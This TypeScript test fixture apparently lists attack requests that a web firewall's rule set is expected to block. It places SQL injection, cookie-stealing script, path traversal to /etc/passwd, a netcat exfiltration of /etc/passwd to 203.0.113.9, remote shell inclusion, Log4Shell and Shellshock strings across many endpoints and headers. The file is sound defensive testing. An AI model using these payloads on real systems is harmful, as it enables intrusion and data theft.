import type { Sent } from './support/send.ts';

/** One text of each of the six classes that the Default Rule Set is there for. */
const payloads = {
  'SQL injection': "1' OR 1=1 UNION SELECT name, password FROM users -- ",
  'cross-site scripting': '<script>alert(document.cookie)</script>',
  'path traversal': '../../../../../../etc/passwd',
  'command execution': '; cat /etc/passwd | nc 203.0.113.9 4444',
  'remote inclusion': 'http://203.0.113.9/shell.txt?',
  'Java look-up': '${jndi:ldap://203.0.113.9/a}',
} as const;

type Attack = keyof typeof payloads;
const names = Object.keys(payloads) as Attack[];

const id = '0198c0de-0000-7000-8000-0000000000aa';
const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const encode = encodeURIComponent;

/** Fields of JSON that nobody writes in their own words. */
const product = (cost: string) =>
  JSON.stringify({ name: 'Frame', manufacturer: 'Darkroom', cost, weight: '1' });

/** Where an attack is put; the managed rules look at a header for some classes only. */
const places: Readonly<Record<string, (text: string) => Omit<Sent, 'name'>>> = {
  'query of a list': (text) => ({ method: 'GET', url: `/api/images?status=${encode(text)}` }),
  'query of a search, another field': (text) => ({
    method: 'GET',
    url: `/api/sales/products?search=frame&cursor=${encode(text)}`,
    as: 'sales',
  }),
  'query of a field that is not ours': (text) => ({ method: 'GET', url: `/api/health?file=${encode(text)}` }),
  'query of an upload': (text) => ({
    method: 'POST',
    url: `/api/images?file=${encode(text)}`,
    headers: { 'content-type': 'image/jpeg' },
    body: 'x',
    as: 'uploader',
  }),
  'query of a resumable upload': (text) => ({
    method: 'PATCH',
    url: `/api/uploads/${id}?file=${encode(text)}`,
    as: 'uploader',
    body: 'x',
  }),
  'query of an import': (text) => ({
    method: 'POST',
    url: `/api/sales/products/import?dryRun=true&file=${encode(text)}`,
    as: 'sales',
    headers: { 'content-type': 'text/csv' },
    body: 'name\n',
  }),
  'JSON, cost of a product': (text) => ({
    method: 'POST',
    url: '/api/sales/products',
    as: 'sales',
    headers: json,
    body: product(text),
  }),
  'JSON, a field inside a list': (text) => ({
    method: 'POST',
    url: '/api/logistics/orders/complete',
    as: 'logistics',
    headers: json,
    body: JSON.stringify({ orders: [{ orderId: text, rowVersion: 1 }] }),
  }),
  'JSON, code of a replay': (text) => ({
    method: 'POST',
    url: '/api/operations/dead-letters/replay',
    as: 'engineering',
    headers: json,
    body: JSON.stringify({ all: true, code: text, reason: 'again' }),
  }),
  'form sent to a desk': (text) => ({
    method: 'POST',
    url: '/api/sales/products',
    as: 'sales',
    headers: form,
    body: `cost=${encode(text)}`,
  }),
  'page of the console': (text) => ({ method: 'GET', url: `/sales?tab=${encode(text)}` }),
};

const header = (name: string, text: string, request: Omit<Sent, 'name'>): Omit<Sent, 'name'> => ({
  ...request,
  headers: { ...request.headers, [name]: text },
});
const upload = {
  method: 'POST',
  url: '/api/images',
  as: 'uploader',
  body: 'x',
  headers: { 'content-type': 'image/jpeg' },
};

/** Attacks that have a place of their own. */
const others: readonly Sent[] = [
  { name: 'path traversal, in the path', method: 'GET', url: '/api/images/..%2f..%2f..%2fetc%2fpasswd' },
  { name: 'path traversal, plain', method: 'GET', url: '/api/images/../../../../etc/passwd' },
  { name: 'restricted file', method: 'GET', url: '/.env' },
  {
    name: 'cross-site scripting, in User-Agent',
    ...header('user-agent', payloads['cross-site scripting'], { method: 'GET', url: '/api/health' }),
  },
  ...(['Java look-up', 'cross-site scripting'] as const).flatMap((attack) =>
    ['user-agent', 'referer', 'idempotency-key', 'x-correlation-id'].map((name) => ({
      name: `${attack}, in ${name} of an upload`,
      ...header(name, payloads[attack], upload),
    })),
  ),
  {
    name: 'shell function, in User-Agent',
    ...header('user-agent', '() { :; }; /bin/id', { method: 'GET', url: '/api/health' }),
  },
  { name: 'method that is not ours', method: 'TRACK', url: '/api/images' },
  {
    name: 'JSON that is none',
    method: 'POST',
    url: '/api/sales/products',
    as: 'sales',
    headers: json,
    body: '{"cost": "1',
  },
  {
    name: 'XML to a desk',
    method: 'POST',
    url: '/api/sales/products',
    as: 'sales',
    headers: { 'content-type': 'text/x-unknown' },
    body: '<a/>',
  },
  {
    name: 'token of 10 KB',
    ...header('authorization', `Bearer ${'a'.repeat(10_000)}`, { method: 'GET', url: '/api/images' }),
  },
  { name: 'address of 9 KB', method: 'GET', url: `/api/images?cursor=${'a'.repeat(9000)}` },
];

/** Each class in each place, then the rest. All have to be stopped. */
export const attacks: readonly Sent[] = [
  ...names.flatMap((attack) =>
    Object.entries(places).map(([place, at]) => ({ name: `${attack}, ${place}`, ...at(payloads[attack]) })),
  ),
  ...others,
];
